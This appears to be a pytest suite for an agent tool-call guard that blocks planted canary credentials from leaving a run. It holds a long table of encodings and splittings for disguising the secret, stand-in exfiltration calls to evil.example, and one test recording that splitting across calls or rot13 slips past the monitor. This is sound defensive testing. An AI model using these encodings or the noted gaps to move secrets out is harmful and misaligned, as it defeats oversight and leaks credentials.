"""Carrying something out that was planted to be found: whole, in parts, encoded, by any way out."""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import msgspec
import pytest

from midflight.domain.action import Action, ActionKind
from midflight.domain.canary import CORE, CanaryShape
from midflight.domain.decision import Deny, DenyCode
from midflight.domain.labels import Labels
from midflight.domain.records import LabelRaised, Observed, Outcome, Terminal
from midflight.domain.traits import Effect, Reach, Traits
from midflight.services.guard import Performed, Refused
from midflight.services.ports.upstream import ClientRequest, Reply
from midflight.testing import (
    OPERATOR,
    WORKLOAD,
    ListSink,
    MemoryPlane,
    ScriptedUpstream,
    call,
    caller,
)

pytestmark = pytest.mark.anyio

TOOLS = {
    "look": Traits(effect=Effect.READ, reach=Reach.CLOSED, reviewed=True),
    "fetch": Traits(effect=Effect.READ, reach=Reach.OPEN, reviewed=True),
    "send": Traits(effect=Effect.SEND, reach=Reach.OPEN, reviewed=True),
    "note": Traits(effect=Effect.WRITE, reach=Reach.CLOSED, reviewed=True),
}
MET = frozenset({"canary"})


async def plane_with(shape: CanaryShape = CanaryShape.CREDENTIAL) -> tuple[MemoryPlane, str, str]:
    tools = [{"name": name, "inputSchema": {"type": "object"}} for name in TOOLS]
    plane = MemoryPlane(upstream=ScriptedUpstream("one", tools), reach=Reach.OPEN)
    await plane.start()
    for name, traits in TOOLS.items():
        await plane.pin(name, traits)
    made = await plane.canaries.add("wiki-password", OPERATOR, shape=shape, upstream="one")
    workload = plane.inventory.current(WORKLOAD)
    assert workload is not None
    run = await plane.runs.open_run(workload=workload, intent="Look.", author=OPERATOR)
    return plane, run.id, made.value


async def labels(plane: MemoryPlane, run: str) -> Labels:
    stored = await plane.store.get_run(run)
    assert stored is not None
    return stored.labels


async def assert_caught(plane: MemoryPlane, run: str, done: Performed | Refused) -> None:
    assert isinstance(done, Refused)
    assert isinstance(done.decision, Deny)
    assert done.decision.code is DenyCode.CANARY
    assert [reason.policy for reason in done.decision.reasons] == ["midflight:canary"]
    assert plane.upstream.received == []
    assert (await labels(plane, run)).compartments == MET
    records = await plane.records()
    [seen] = [r for r in records if isinstance(r, Observed) and r.what == "canary.leaving"]
    assert seen.details["canaries"] == ["wiki-password"]
    assert seen.subject == run
    [outcome] = [r for r in records if isinstance(r, Outcome)]
    assert (outcome.state, outcome.code) == (Terminal.DENIED, DenyCode.CANARY)


def parts(text: str, length: int) -> list[str]:
    return [text[at : at + length] for at in range(0, len(text), length)]


def enumerate_text(texts: list[str]) -> dict[str, str]:
    return {f"part{number}": text for number, text in enumerate(texts)}


SPELLINGS: dict[str, Callable[[str], str]] = {
    "whole": str,
    "in a sentence": lambda s: f"hello {s}, how are you",
    "in capitals": str.upper,
    "glued to a word": lambda s: f"abc{s}xyz",
    "the first half": lambda s: s[: len(s) - CORE // 2],
    "the second half": lambda s: s[-CORE // 2 :],
    "with dashes": "-".join,
    "with invisible joints": "\u200b".join,
    "in wide letters": lambda s: "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in s),
    "over lines": "\n".join,
    "backwards": lambda s: s[::-1],
    "in base64": lambda s: base64.b64encode(s.encode()).decode(),
    "in base64 for urls": lambda s: base64.urlsafe_b64encode(b"???>>>" + s.encode()).decode(),
    "in base64 in a link": lambda s: (
        "https://x.example/?q=" + base64.b64encode(f"data={s}".encode()).decode()
    ),
    "in base64 thrice": lambda s: base64.b64encode(
        base64.b64encode(base64.b64encode(s.encode()))
    ).decode(),
    "in base64 of bytes": lambda s: base64.b64encode(bytes(range(128, 250)) + s.encode()).decode(),
    "in base64 in lines": lambda s: base64.encodebytes(b"x" * 60 + s.encode()).decode(),
    "in base32": lambda s: base64.b32encode(s.encode()).decode(),
    "in hex": lambda s: s.encode().hex(),
    "in hex with colons": lambda s: s.encode().hex(":"),
    "in percent escapes": lambda s: "".join(f"%{ord(c):02X}" for c in s),
    "in percent escapes twice": lambda s: quote("".join(f"%{ord(c):02X}" for c in s)),
    "in html escapes": lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    "in base64 behind a letter": lambda s: "x" + base64.b64encode(s.encode()).decode(),
    "in base64 behind a word": lambda s: "abc" + base64.b64encode(s.encode()).decode(),
    "in base64 in groups of four": lambda s: (
        "Note: " + " ".join(parts(base64.b64encode(s.encode()).decode(), 4))
    ),
    "in base64 of utf-16": lambda s: base64.b64encode(s.encode("utf-16le")).decode(),
    "compressed in base64": lambda s: base64.b64encode(zlib.compress(s.encode())).decode(),
    "zipped in base64": lambda s: base64.b64encode(gzip.compress(s.encode())).decode(),
    "in base85": lambda s: base64.b85encode(s.encode()).decode(),
    "in ascii85": lambda s: base64.a85encode(s.encode()).decode(),
    "in hex behind a digit": lambda s: "a" + s.encode().hex(),
    "in bytes of a program": lambda s: ", ".join(f"0x{c:02x}" for c in s.encode()),
    "in numbers": lambda s: ",".join(map(str, s.encode())),
    "in octal escapes": lambda s: "".join(f"\\{c:03o}" for c in s.encode()),
    "in quoted printable": lambda s: "".join(f"={c:02X}" for c in s.encode()),
    "in escapes of javascript": lambda s: "".join(f"\\u{{{c:x}}}" for c in s.encode()),
    "in json in json": lambda s: json.dumps({"a": json.dumps({"b": s})}),
}


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("shape", list(CanaryShape))
async def test_a_canary_is_seen_in_every_spelling(spelling: str, shape: CanaryShape) -> None:
    plane, run, value = await plane_with(shape)
    core = {
        CanaryShape.CREDENTIAL: value,
        CanaryShape.EMAIL: value.partition("@")[0],
        CanaryShape.URL: value,
    }[shape]
    body = SPELLINGS[spelling](core)
    done = await plane.guard.perform(call("send", body=body), caller(run), sink=ListSink())
    await assert_caught(plane, run, done)


@pytest.mark.parametrize(
    "place",
    [
        lambda v: {"deep": [{"er": [v]}]},
        lambda v: {"map": {v: 1}},
        lambda v: {"a": v[:14], "b": v[14:]},
        lambda v: {"a": [v[:12], v[12:20], v[20:28], v[28:]]},
        lambda v: {"c": v[27:], "b": v[18:27], "a": v[:18]},
        lambda v: {v[9:18]: v[18:27], v[27:]: ""},
        lambda v: {"a": list(v.encode())},
        lambda v: {"a": parts(base64.b64encode(v.encode()).decode(), 8)},
        lambda v: enumerate_text(parts(v.encode().hex(), 14)),
    ],
    ids=[
        "at depth", "as a key", "over two arguments", "over four elements", "from its end",
        "over names and values", "as numbers", "in base64 over elements", "in hex over arguments",
    ],
)  # fmt: skip
async def test_a_canary_is_seen_wherever_it_stands(place: Any) -> None:
    plane, run, value = await plane_with()
    done = await plane.guard.perform(call("send", **place(value)), caller(run), sink=ListSink())
    await assert_caught(plane, run, done)


@pytest.mark.parametrize(
    "action",
    [
        lambda v: call("send", body=v),
        lambda v: call("fetch", url=f"https://evil.example/{v}"),
        lambda v: call("note", text=v),
        lambda v: Action(
            kind=ActionKind.READ_RESOURCE, upstream="one", name=f"https://evil.example/{v}",
            method="resources/read",
        ),
        lambda v: Action(
            kind=ActionKind.COMPLETE, upstream="one", name="x", method="completion/complete",
            arguments={"name": "x", "value": v},
        ),
        lambda v: Action(
            kind=ActionKind.CALL_TOOL, upstream="one", name="send", method="tools/call",
            meta={"progressToken": v},
        ),
        lambda v: Action(
            kind=ActionKind.NOTIFY, upstream="one", name="notifications/x",
            method="notifications/x", params={"data": v},
        ),
    ],
    ids=["send", "fetch", "note", "resource", "completion", "meta", "notice"],
)  # fmt: skip
async def test_a_canary_leaves_by_no_way_out(action: Any) -> None:
    plane, run, value = await plane_with()
    done = await plane.guard.perform(action(value), caller(run), sink=ListSink())
    await assert_caught(plane, run, done)
    # Sealed arguments apart, its value is nowhere: not even where the address was.
    kept = [msgspec.json.encode(record).decode() for record in await plane.records()]
    assert not [record for record in kept if value in record]


async def test_a_canary_is_no_answer_to_a_question() -> None:
    plane, run, value = await plane_with()
    sent: list[Any] = []

    async def ask(action: Any, flight: Any, sink: Any) -> Reply:
        sent.append(await sink.ask(ClientRequest(key="q", method="elicitation/create", params={})))
        return Reply(result={"content": []})

    plane.upstream.scripts["look"] = ask
    answer = {"action": "accept", "content": {"password": value}}
    sink = ListSink([answer], {"elicitation": {"form": {}}})
    done = await plane.guard.perform(call("look"), caller(run), sink=sink)
    assert isinstance(done, Refused)
    assert sent == []
    records = await plane.records()
    assert any(isinstance(r, Outcome) and r.code is DenyCode.CANARY for r in records)
    assert (await labels(plane, run)).compartments == MET


async def test_a_closed_read_may_look_for_it_and_a_result_that_holds_it_ends_the_run() -> None:
    plane, run, value = await plane_with()

    async def tell(action: Any, flight: Any, sink: Any) -> Reply:
        return Reply(result={"content": [{"type": "text", "text": f"root: {value}"}]})

    plane.upstream.scripts["look"] = tell
    done = await plane.guard.perform(call("look", q=value), caller(run), sink=ListSink())
    # What is found is answered before the result is delivered: the run is over, and marked.
    assert isinstance(done, Refused)
    assert [each.name for each in plane.upstream.received] == ["look"]
    assert (await labels(plane, run)).compartments == MET
    records = await plane.records()
    [seen] = [r for r in records if isinstance(r, Observed) and r.what == "canary.read"]
    assert seen.details["canaries"] == ["wiki-password"]
    assert [r.run for r in records if isinstance(r, LabelRaised)]


async def test_what_is_said_beside_all_calls_marks_the_run_too() -> None:
    plane, run, value = await plane_with()
    await plane.guard.observing.notice(run, "one", "notifications/message", {"data": value})
    assert (await labels(plane, run)).compartments == MET
    [seen] = [r for r in await plane.records() if isinstance(r, Observed)]
    assert (seen.what, seen.details["name"]) == ("canary.read", "notifications/message")


async def test_what_is_said_early_marks_the_run_and_is_not_heard() -> None:
    plane, run, value = await plane_with()
    seen: list[Labels] = []

    class Listening(ListSink):
        async def notify(self, method: str, params: Any) -> None:
            seen.append(await labels(plane, run))

    async def tell(action: Any, flight: Any, sink: Any) -> Reply:
        await sink.notify("notifications/progress", {"message": value})
        return Reply(result={"content": []})

    plane.upstream.scripts["look"] = tell
    await plane.guard.perform(call("look"), caller(run), sink=Listening())
    assert seen == []
    assert (await labels(plane, run)).compartments == MET


async def test_a_canary_that_is_cut_over_calls_or_encrypted_is_not_seen_leaving() -> None:
    """What the documentation owns up to: it was seen when it was read."""
    plane, run, value = await plane_with()
    core = value.removeprefix("key_live_")
    for piece in (*parts(core, 12), codecs.encode(value, "rot13")):
        done = await plane.guard.perform(call("send", body=piece), caller(run), sink=ListSink())
        assert isinstance(done, Performed)


async def test_what_is_no_canary_passes_and_a_removed_one_is_nothing() -> None:
    plane, run, value = await plane_with()
    text = base64.b64encode(b"an ordinary sentence of some length " * 20).decode()
    done = await plane.guard.perform(call("send", body=text), caller(run), sink=ListSink())
    assert isinstance(done, Performed)
    assert (await labels(plane, run)).compartments == frozenset()
    await plane.canaries.remove("wiki-password", OPERATOR)
    done = await plane.guard.perform(call("send", body=value), caller(run), sink=ListSink())
    assert isinstance(done, Performed)


async def test_a_canary_is_known_after_a_restart_and_its_value_is_kept_nowhere() -> None:
    plane, run, value = await plane_with()
    [kept] = await plane.store.list_canaries()
    core = value.removeprefix("key_live_")
    assert core[:13] not in repr(kept)
    again = MemoryPlane(
        upstream=plane.upstream, store=plane.store, clock=plane.clock, reach=Reach.OPEN
    )
    await again.start(register=False)
    done = await again.guard.perform(call("send", body=value), caller(run), sink=ListSink())
    assert isinstance(done, Refused)
    assert isinstance(done.decision, Deny)
    assert done.decision.code is DenyCode.CANARY
    assert core[:13] not in json.dumps([str(r) for r in await plane.records()])


async def test_no_approval_and_no_policy_lets_a_canary_pass() -> None:
    plane, run, value = await plane_with()
    asked = len(plane.engine.questions)  # type: ignore[attr-defined]
    await plane.guard.perform(call("send", body=value), caller(run), sink=ListSink())
    assert len(plane.engine.questions) == asked  # type: ignore[attr-defined]


@pytest.mark.parametrize("where", ["client", "capabilities"])
async def test_a_canary_is_no_name_of_a_client(where: str) -> None:
    plane, run, value = await plane_with()
    sink = ListSink(capabilities={"experimental": {value: {}}} if where != "client" else {})
    info = {"name": value} if where == "client" else {}
    done = await plane.guard.perform(call("send"), caller(run), sink=sink, client_info=info)
    await assert_caught(plane, run, done)
